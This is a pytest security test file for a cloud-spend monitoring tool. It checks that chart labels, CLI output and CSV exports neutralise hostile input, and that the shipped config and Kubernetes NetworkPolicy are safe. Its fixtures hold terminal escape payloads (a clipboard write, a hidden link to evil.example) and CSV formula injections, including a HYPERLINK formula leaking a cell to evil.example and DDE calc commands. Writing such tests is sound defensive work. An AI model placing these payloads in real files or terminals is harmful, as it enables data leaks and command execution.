"""Hole 6, the smaller ones: math text in a currency, control characters on the terminal, CSV formulas,
a safe example config, a NetworkPolicy that admits only what it must."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pyarrow.parquet as pq
import pytest
import yaml
from click.testing import CliRunner
from PIL import Image

from spendwatch.cli import main
from spendwatch.config import load_config
from spendwatch.export import export_focus
from spendwatch.killswitch.engine import run_killswitch
from spendwatch.killswitch.journal import list_actions
from spendwatch.notify.charts import incident_chart, tick_label
from spendwatch.store import Store
from spendwatch.terminal import SafeStream, clean
from tests.doubles.clock import FixedClock
from tests.security.detectors import formula_cells, terminal_injections
from tests.security.records import NOW, hostile_cost_lines, hostile_incident, hostile_settings, store_incident

MATH = ["$x$", "$\\frac{$", "$\\undefinedcommand$", "$$", "USD$", "$\\$$", "$" * 9]


@pytest.mark.parametrize("currency", MATH)
def test_a_currency_with_math_text_draws_a_chart(currency: str) -> None:
    png = incident_chart(hostile_incident("a").points, currency)
    assert png is not None
    with Image.open(io.BytesIO(png)) as image:
        assert image.format == "PNG" and image.size == (1200, 400)


@pytest.mark.parametrize("currency", MATH)
def test_a_tick_label_shows_the_dollar_signs_as_text(currency: str) -> None:
    label = tick_label(1234.0, currency)
    # Every $ is escaped, so matplotlib never enters math mode: it shows them as they are.
    assert label.count("$") == label.count("\\$")


# -- control characters on the terminal ---------------------------------------------------------------

TERMINAL = [
    "\x1b[2J\x1b[31mRED\x1b[0m",  # clear screen, colours
    "\x1b]52;c;ZWNobyBwd25lZA==\x07",  # OSC 52: write the clipboard
    "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",  # OSC 8: a hidden hyperlink
    "ok\rFORGED-OVERWRITE",  # carriage return over the line
    "invoice\u202egpj.exe",  # right-to-left override
    "line\nFORGED-LINE done",  # a line of its own
    "\x9b31m C1 CSI",  # the 8-bit CSI
    "bell\x07 and backspace\x08\x08",
]


def _cli_store(tmp_path: Path, text: str) -> Path:
    config = tmp_path / "sw.yaml"
    config.write_text(
        "store: {path: s.duckdb}\nsources: [{name: demo, type: simulated}]\n"
        "killswitch:\n  approvers: [lead]\n  rules:\n"
        "    - {name: page, when: {incident: {}}, do: hook, how: dry-run, hook: {command: [/bin/true]}}\n"
    )
    clock = FixedClock(NOW)
    store = Store(tmp_path / "s.duckdb", clock=clock)
    incident = hostile_incident(text)
    incident_id = store_incident(store, incident)
    run_killswitch(hostile_settings(text), store, clock, incidents=[replace(incident, id=incident_id)])
    assert list_actions(store), "the hostile incident was journaled"
    return config


@pytest.mark.parametrize("text", TERMINAL)
def test_data_never_reaches_the_terminal_as_control_characters(tmp_path: Path, text: str) -> None:
    config = _cli_store(tmp_path, text)
    runner = CliRunner()
    for args in (
        ["anomalies", "list"], ["anomalies", "show", "1"], ["anomalies", "list", "--json"],
        ["actions", "list"], ["actions", "show", "1"], ["actions", "show", "2"], ["actions", "status"],
    ):  # fmt: skip
        result = runner.invoke(main, ["--config", str(config), *args])
        assert result.exit_code == 0, (args, result.output)
        assert terminal_injections(result.output) == [], args
        assert not any(line.startswith(("FORGED", "gpj")) for line in result.output.splitlines()), args


def test_the_terminal_guard_covers_every_command_output() -> None:
    """Whatever a command forgets to clean, the CLI's streams escape it (the layout's newlines pass)."""
    import click

    @click.command()
    def leaky() -> None:
        click.echo("a\x1b]52;c;AAAA\x07b\nsecond line\ttab")
        click.echo("err\x1b[2J", err=True)

    main.add_command(leaky, "leaky-test-command")
    try:
        result = CliRunner().invoke(main, ["leaky-test-command"])
    finally:
        main.commands.pop("leaky-test-command")
    assert result.output.splitlines()[:2] == ["a\\x1b]52;c;AAAA\\x07b", "second line\ttab"]
    assert terminal_injections(result.output) == []


@pytest.mark.parametrize("text", TERMINAL)
def test_on_a_real_terminal_too(text: str) -> None:
    """click strips colour codes only when stdout is not a terminal; the guard does not depend on it."""
    out = io.StringIO()
    stream = SafeStream(out)
    stream.write(f"{text}\n")
    assert terminal_injections(out.getvalue()) == [] and terminal_injections(clean(text)) == []
    assert "\n" not in clean(text)


# -- CSV formulas in costs export ----------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]


def _hostile_lines(store: Store, text: str) -> None:
    day = datetime(2026, 11, 3, tzinfo=UTC)
    store.replace_cost_lines("bills", day, day + timedelta(days=1), hostile_cost_lines(text, day))


@pytest.mark.parametrize("text", FORMULAS)
def test_costs_export_csv_holds_no_formula(tmp_path: Path, text: str) -> None:
    store = Store(tmp_path / "s.duckdb", clock=FixedClock(NOW))
    _hostile_lines(store, text)
    out = tmp_path / "out.csv"
    assert export_focus(store, out) == 2
    with out.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    assert formula_cells(rows) == []
    header, hostile = rows[0], rows[1]
    assert hostile[header.index("BilledCost")] == "-3.5"  # numbers stay numbers
    assert hostile[header.index("SubAccountId")] == "'" + text  # text shown as it was, as text


def test_parquet_keeps_the_values_as_they_are(tmp_path: Path) -> None:
    store = Store(tmp_path / "s.duckdb", clock=FixedClock(NOW))
    _hostile_lines(store, FORMULAS[0])
    out = tmp_path / "out.parquet"
    export_focus(store, out)
    assert FORMULAS[0] in pq.read_table(out).column("SubAccountId").to_pylist()


# -- the shipped example config and NetworkPolicy --------------------------------------------------------

REPO = Path(__file__).resolve().parents[2]


def test_the_example_config_acts_on_nothing_by_itself() -> None:
    """Copying the example must not arm the kill switch: no rule enforces, none allows irreversible actions."""
    config = load_config(REPO / "config" / "spendwatch.example.yaml", environ={})
    for rule in config.killswitch.rules:
        assert rule.how in ("dry-run", "approve"), rule.name
        assert not rule.allow_irreversible, rule.name
    assert config.killswitch.approvers, "an approve rule needs someone who may approve"
    text = (REPO / "config" / "spendwatch.example.yaml").read_text()
    assert "#     how: enforce" in text or "# how: enforce" in text  # enforcement is shown, commented out


def test_the_network_policy_admits_metrics_only_from_monitoring_and_no_instance_metadata() -> None:
    policy = yaml.safe_load((REPO / "deploy" / "kubernetes" / "networkpolicy.yaml").read_text())["spec"]
    for rule in policy["ingress"]:
        sources = rule.get("from") or []
        assert sources, "ingress from any pod"
        for source in sources:
            labels = source["namespaceSelector"]["matchLabels"]
            assert labels == {"kubernetes.io/metadata.name": "monitoring"}
    blocks = [b["ipBlock"]["cidr"] for rule in policy["egress"] for b in rule.get("to", []) if "ipBlock" in b]
    assert "169.254.169.254/32" not in blocks  # EC2 IMDS: node credentials, never needed under IRSA
    assert not any(b.startswith(("0.0.0.0", "169.254.0.0")) for b in blocks)
    plain_http = [r for r in policy["egress"] for p in r["ports"] if p["port"] == 80]
    assert all(r.get("to") for r in plain_http)
